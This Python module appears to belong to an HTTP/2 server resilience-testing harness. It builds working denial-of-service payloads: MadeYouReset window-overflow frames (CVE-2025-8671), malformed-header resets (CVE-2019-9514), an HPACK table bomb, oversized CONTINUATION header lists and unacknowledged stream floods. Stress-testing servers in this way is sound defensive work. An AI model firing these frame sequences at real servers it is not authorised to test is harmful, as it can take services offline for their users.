"""Requests that the server has to reset (MadeYouReset), header lists beyond any budget, streams beyond the limit."""

from support.attacks import Attack, block, drill, frame, headers, streams

NAME = "http2-made-you-reset"
QUICK = True
LIMIT = 180
REQUEST = block()
LENGTH = block(("content-length", "5"))
MALFORMED = block(("connection", "close"))


def window_overflow():
    """CVE-2025-8671."""
    return streams(lambda id: headers(id, REQUEST, "END_HEADERS") + frame(8, 0, id, bytes([0x7F, 0xFF, 0xFF, 0xFF])))


def content_length():
    return streams(lambda id: headers(id, LENGTH, "END_HEADERS") + frame(0, 1, id, b"\0"))


def malformed():
    return streams(lambda id: headers(id, MALFORMED, "END_HEADERS", "END_STREAM"))


def bomb():
    """An entry of 4000 bytes in the dynamic table, and then bytes that stand for it."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    yield headers(1, REQUEST + entry, "END_HEADERS", "END_STREAM")
    yield from streams(lambda id: headers(id, REQUEST + b"\xbe" * 15_000, "END_HEADERS", "END_STREAM"), batch=1, first=3)


def large_lists():
    """Lists of headers that fill a frame and its continuation."""
    field = b"\x00\x04name\x7f\xd1\x0e" + b"v" * 2000
    return streams(
        lambda id: headers(id, REQUEST + field * 7, "END_STREAM") + frame(9, 4, id, field * 7), batch=1)


def without_acknowledgement():
    return streams(lambda id: headers(id, REQUEST, "END_HEADERS"))


def too_many_streams():
    yield frame(4, 1, 0)
    yield from without_acknowledgement()


ATTACKS = [
    Attack("window overflow", "provoked-resets", window_overflow),
    Attack("content-length", "provoked-resets", content_length),
    Attack("malformed headers", "provoked-resets", malformed),
    # CVE-2019-9514.
    Attack("malformed headers, unread", "provoked-resets", malformed, reads=False),
    Attack("HPACK bomb", "provoked-resets", bomb),
    Attack("large header lists", "provoked-resets", large_lists),
    Attack("streams, SETTINGS not acknowledged", "provoked-resets", without_acknowledgement),
    Attack("streams", "concurrent-streams", too_many_streams),
]


def run(context):
    return drill(context, [ATTACKS[1], ATTACKS[4]] if context.quick else ATTACKS)
